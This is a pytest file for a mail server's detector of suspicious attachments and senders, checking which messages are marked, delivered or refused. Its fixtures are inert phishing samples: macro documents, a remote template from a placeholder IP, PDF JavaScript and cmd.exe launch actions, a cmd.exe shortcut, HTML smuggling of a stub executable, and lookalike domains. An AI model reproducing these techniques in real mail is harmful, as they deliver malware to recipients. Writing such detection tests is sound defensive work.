# SPDX-License-Identifier: ISC
"""What looks like a targeted attack, through a running instance: it is told from business mail, and what becomes of it."""
import base64
import email.message
import io
import lzma
import os
import signal
import struct
import time
import zipfile

import pytest

from instance import Instance
from test_filter import find, send
from test_virus import EICAR, locked, submit

SENDER = "a@remote.test"


@pytest.fixture(scope="module")
def hk():
    instance = Instance(config={"partner_domains": "partner-bank.test", "protected_names": "Hikyaku Express, 飛脚急便",
                                "rate_connections": "100000", "rate_messages": "100000"}).start()
    try:
        instance.domain()
        for address in ("alice@example.test", "bob@example.test"):
            instance.account(address)
        wait_for_domains(instance, 1)
        yield instance
        instance.assert_clean_log()
    finally:
        instance.destroy()


def wait_for_domains(hk, count, seconds=60):
    """Until the scanner knows so many domains of ours."""
    deadline = time.monotonic() + seconds
    while not hk.events("scan.domains.known") or hk.events("scan.domains.known")[-1]["count"] != count:
        assert time.monotonic() < deadline, hk.log()[-3000:]
        time.sleep(0.1)


def message(subject, *attachments, body="Please find it attached.\n", html=None, sender=SENDER, **fields):
    """attachments: (name, octets, "type/subtype")"""
    msg = email.message.EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = sender, "alice@example.test", subject
    msg["Date"], msg["Message-ID"] = "Mon, 02 Nov 2026 10:00:00 +0900", f"<{subject}@remote.test>"
    for name, value in fields.items():
        msg[name.replace("_", "-")] = value
    msg.set_content(body)
    if html:
        msg.add_alternative(html, subtype="html")
    for name, data, kind in attachments:
        major, minor = kind.split("/")
        msg.add_attachment(data, maintype=major, subtype=minor, filename=name)
    return msg.as_bytes(policy=msg.policy.clone(linesep="\r\n"))


# ---- files ----

def packed(*members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(name, data)
    return out.getvalue()


TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
         '<Override PartName="/word/document.xml" ContentType="application/vnd.%s.main+xml"/></Types>')
RELS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
        'Target="%s"%s/></Relationships>')
TEXT = ('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
        '御見積書</w:t></w:r></w:p></w:body></w:document>')
DOCX = [("[Content_Types].xml", TYPES % "openxmlformats-officedocument.wordprocessingml.document"),
        ("_rels/.rels", RELS % ("officeDocument", "word/document.xml", "")), ("word/document.xml", TEXT)]
docx = packed(*DOCX)
docm = packed(("[Content_Types].xml", TYPES % "ms-word.document.macroEnabled"), *DOCX[1:],
              ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1024))
template = packed(*DOCX, ("word/_rels/settings.xml.rels",
                          RELS % ("attachedTemplate", "http://192.0.2.9/t.dotm", ' TargetMode="External"')))


def entry(name, kind, child, start, size):
    """Of a compound file's directory; all are children of the root, one to the right of the other."""
    text = name.encode("utf-16-le") + b"\0\0"
    right = 0xffffffff if name != "Macros" else 2
    return (text.ljust(64, b"\0") + struct.pack("<HBBIII", len(text), kind, 1, 0xffffffff, right, child) + b"\0" * 36 +
            struct.pack("<IQ", start, size))


FREE, END = 0xffffffff, 0xfffffffe
macro_doc = (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack(
    "<HHHHH6xIIIIIIIII", 0x3e, 3, 0xfffe, 9, 6, 0, 1, 1, 0, 4096, END, 0, END, 0) +
    struct.pack("<109I", 0, *[FREE] * 108) +
    struct.pack("<128I", 0xfffffffd, END, *range(3, 10), END, *[FREE] * 118) +
    entry("Root Entry", 5, 1, END, 0) + entry("Macros", 1, FREE, 0, 0) + entry("WordDocument", 2, FREE, 2, 4096) +
    b"\0" * 128 + b"\xec\xa5" + b"\0" * 4094)


def pdf(*objects):
    out = b"%PDF-1.7\n"
    for n, text in enumerate(objects, 1):
        out += b"%d 0 obj\n%s\nendobj\n" % (n, text)
    return out + b"trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"


plain_pdf = pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [5 0 R] >>",
                b"<< /Length 33 >>\nstream\nBT /F1 12 Tf (JavaScript) Tj ET\nendstream",
                b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.remote.test/) >> >>")
script_pdf = pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>",
                 b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")
launch_pdf = pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >>",
                 b"<< /Type /Pages /Kids [] /Count 0 >>")
exe = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\x4c\x01" + b"\0" * 200
lnk = struct.pack("<I16sI", 0x4c, bytes.fromhex("0114020000000000c000000000000046"), 0x88) + b"\0" * 52 + b"".join(
    struct.pack("<H", len(text)) + text.encode("utf-16-le")
    for text in (r"..\..\Windows\System32\cmd.exe", "/c start x"))
iso = b"\0" * 32768 + b"\x01CD001\x01\0" + b"\0" * 4096
smuggling = (b"<html><script>var b=atob('" + base64.b64encode(exe * 20) + b"');var u=new Uint8Array(b.length);"
             b"var o=new Blob([u],{type:'application/octet-stream'});var a=document.createElement('a');"
             b"a.href=URL.createObjectURL(o);a.download='invoice.iso';a.click();</script></html>")
WORD, OCTETS, PDF = "application/msword", "application/octet-stream", "application/pdf"

# name -> (message, a trait that it must have)
ODD = {
    "macro": (message("macro", ("order.docm", docm, WORD)), "office-macro"),
    "hidden-macro": (message("hidden-macro", ("order.docx", docm, WORD)), "office-macro-hidden"),
    "old-macro": (message("old-macro", ("order.doc", macro_doc, WORD)), "office-macro"),
    "template": (message("template", ("order.docx", template, WORD)), "office-template"),
    "pdf-script": (message("pdf-script", ("a.pdf", script_pdf, PDF)), "pdf-script"),
    "pdf-launch": (message("pdf-launch", ("a.pdf", launch_pdf, PDF)), "pdf-launch"),
    "shortcut": (message("shortcut", ("a.lnk", lnk, OCTETS)), "shortcut-command"),
    "shortcut-in-zip": (message("shortcut-in-zip", ("a.zip", packed(("請求書.pdf.lnk", lnk)), OCTETS)), "archive-executable"),
    "iso": (message("iso", ("a.iso", iso, OCTETS)), "disk-image"),
    "squashfs": (message("squashfs", ("a.dat", b"hsqs" + b"\0" * 24 + b"\4" + b"\0" * 4096, OCTETS)), "disk-image"),
    # What nobody looks into adds to what else is odd.
    "brand-and-archive": (message("brand-and-archive", ("report.xz", lzma.compress(b"report"), "application/x-xz"),
                                  sender='"Hikyaku Express" <x@elsewhere.test>'), "archive-unread"),
    "two-extensions": (message("two-extensions", ("invoice.pdf.exe", exe, OCTETS)), "double-extension"),
    "pretends": (message("pretends", ("picture.jpg", exe, "image/jpeg")), "type-mismatch"),
    "reversed-name": (message("reversed-name", ("invoice\u202efdp.exe", exe, OCTETS)), "bidi-name"),
    "locked-program": (message("locked-program", ("a.zip", locked(packed(("a.exe", exe))), OCTETS)), "archive-executable"),
    "smuggling": (message("smuggling", ("invoice.html", smuggling, "text/html")), "html-smuggling"),
    "script-as-text": (message("script-as-text", ("a.js", b"var a = new ActiveXObject('WScript.Shell');\n",
                                                  "text/plain")), "executable-name"),
    "our-domain-nearly": (message("our-domain-nearly", sender="boss@examp1e.test"), "sender-lookalike"),
    "our-domain-cyrillic": (message("our-domain-cyrillic", sender="boss@xn--xample-2of.test"), "sender-lookalike"),
    "partner-nearly": (message("partner-nearly", sender="pay@partner-bank-login.test"), "sender-lookalike"),
    "shown-address": (message("shown-address", sender='"alice@example.test" <x@elsewhere.test>'), "name-ours"),
    "shown-brand": (message("shown-brand", sender='"Hikyaku Express" <x@elsewhere.test>', Reply_To="y@other.test"),
                    "name-brand"),
    "shown-brand-ja": (message("shown-brand-ja", sender='"飛脚急便 請求係" <x@elsewhere.test>', Reply_To="y@other.test"),
                       "name-brand"),
    "deceptive-link": (message("deceptive-link", html='<a href="http://192.0.2.7/x">https://www.good-bank.test/</a>'),
                       "url-deceptive"),
    "number-link": (message("number-link", body="http://0x7f000001/login\n"), "url-odd-address"),
    "link-like-us": (message("link-like-us", body="https://login.examp1e.test/\n"), "url-lookalike"),
}


def traits(msg):
    field = msg["X-Hikyaku-Suspicious"]
    return field and [name.strip() for name in field.split(",")]


def test_odd_is_marked(hk):
    """Everything that attackers send: it is delivered, and a field says what is odd."""
    for name, (data, trait) in ODD.items():
        assert send(hk, data, SENDER)[0] == 250, name
        found = traits(find(hk, name))
        assert found and trait in found, (name, found)
        entry = [e for e in hk.events("filter.suspicious") if trait in e["traits"].split(", ")]
        assert entry and entry[-1]["status"] == "deliver", name


NEWSLETTER = "".join(f'<a href="https://click.news.test/t/{n}?u=https%3A%2F%2Fshop.test">第{n}号の記事</a>'
                     f'<img src="https://img.news.test/{n}.png">' for n in range(300))
USUAL = {
    "business": message("business", ("お見積り.pdf", plain_pdf, PDF), ("契約書 v1.2.docx", docx, WORD),
                        sender='"田中 太郎" <tanaka@remote.test>', html="<p>いつもお世話になっております。</p>"),
    "invoice-zip": message("invoice-zip", ("請求書_2026.11.zip", packed(("請求書 2026.11.pdf", plain_pdf)), "application/zip")),
    "newsletter": message("newsletter", html=f"<html><body>{NEWSLETTER}</body></html>", Reply_To="news@shop.test",
                          sender='"News: today" <news@news.test>', List_Unsubscribe="<https://news.test/u>"),
    "locked-zip": message("locked-zip", ("a.zip", locked(packed(("report.pdf", plain_pdf))), "application/zip")),
    "other-archive": message("other-archive", ("report.tar.xz", lzma.compress(b"report"), "application/x-xz")),
    "link-to-us": message("link-to-us", body="https://www.example.test/ https://partner-bank.test/\n",
                          html='<a href="https://partner-bank.test/x">partner-bank.test</a>'),
    "our-friend": message("our-friend", sender='"Partner Bank" <info@partner-bank.test>'),
    "quotes-us": message("quotes-us", body="From: alice@example.test\n> thank you\n", sender='"Bob B." <bob@remote.test>'),
    "picture": message("picture", ("photo.1.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF" + b"\0" * 64, "image/jpeg"),
                       ("meeting.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "text/calendar")),
    "table": message("table", ("data.csv", "名前,数\r\n田中,1\r\n".encode("cp932"), "text/csv")),
}


def test_usual_is_not_marked(hk):
    """Business mail is not suspicious: who reads it has no mark to get used to."""
    for name, data in USUAL.items():
        assert send(hk, data, SENDER)[0] == 250, name
        assert traits(find(hk, name)) is None, (name, find(hk, name)["X-Hikyaku-Suspicious"])


def test_claims_of_strangers(hk):
    """Nobody else writes the field."""
    data = b"X-Hikyaku-Suspicious: office-macro,\r\n bidi-name\r\n" + message("claim")
    assert send(hk, data, SENDER)[0] == 250
    assert traits(find(hk, "claim")) is None


def test_own_mail_is_only_logged(hk):
    """Our users send what they like; the log has it."""
    count = len(hk.events("filter.suspicious"))
    assert submit(hk, message("own", ("order.docm", docm, WORD), sender="alice@example.test"))[0] == 250
    assert traits(find(hk, "own", "bob@example.test")) is None
    entries = hk.events("filter.suspicious")[count:]
    assert len(entries) == 1 and entries[0]["status"] == "logged-in" and "office-macro" in entries[0]["traits"]


def test_new_domain_is_known(hk):
    """Without a restart, and forgotten when it goes."""
    data = message("before-it-came", sender="a@n0rthwind.test")
    assert send(hk, data, SENDER)[0] == 250 and traits(find(hk, "before-it-came")) is None
    loaded = len(hk.events("scan.signatures.loaded"))
    hk.domain("northwind.test", "--tenant", "example.test")
    hk.domain("southwind.test")
    wait_for_domains(hk, 3)
    assert send(hk, message("after-it-came", sender="a@n0rthwind.test"), SENDER)[0] == 250
    assert traits(find(hk, "after-it-came")) == ["sender-lookalike"]
    # Another customer's domain is not what our readers take it for.
    assert send(hk, message("of-others", sender="a@s0uthwind.test"), SENDER)[0] == 250
    assert traits(find(hk, "of-others")) is None
    hk.cli("domain", "delete", "northwind.test")
    hk.cli("domain", "delete", "southwind.test")
    wait_for_domains(hk, 1)
    assert send(hk, message("after-it-went", sender="a@n0rthwind.test"), SENDER)[0] == 250
    assert traits(find(hk, "after-it-went")) is None
    assert len(hk.events("scan.signatures.loaded")) == loaded


@pytest.mark.parametrize("setting,mailbox", [("junk", "Junk"), ("quarantine", None), ("mark", "INBOX")])
def test_what_becomes_of_it(hk, setting, mailbox):
    """Only what a stranger's suspicious message is delivered to changes; what is malicious stays refused."""
    hk.configure({"suspicious": setting})
    reloads = len(hk.events("master.reloaded"))
    os.kill(hk.pid(), signal.SIGHUP)
    deadline = time.monotonic() + 20
    while len(hk.events("master.reloaded")) == reloads:
        assert time.monotonic() < deadline
        time.sleep(0.05)
    # A process hears of the new configuration a moment later.
    for n in range(100):
        subject = f"becomes-{setting}-{n}-"
        assert send(hk, message(subject, ("order.docm", docm, WORD)), SENDER)[0] == 250
        entry = hk.events("filter.suspicious")[-1]
        if entry["status"] == {"mark": "deliver"}.get(setting, setting):
            break
        assert time.monotonic() < deadline, entry
        time.sleep(0.2)
    assert hk.events("filter.message.judged")[-1]["reason"] == ("" if setting == "mark" else "suspicious")
    if mailbox:
        assert "office-macro" in traits(find(hk, subject, mailbox=mailbox))
    else:
        assert find(hk, subject, seconds=1) is None
    assert send(hk, message(f"plain-{setting}", ("a.docx", docx, WORD)), SENDER)[0] == 250
    assert traits(find(hk, f"plain-{setting}")) is None
    assert send(hk, message(f"infected-{setting}", ("order.docm", docm, WORD), body=EICAR.decode()), SENDER)[0] == 554
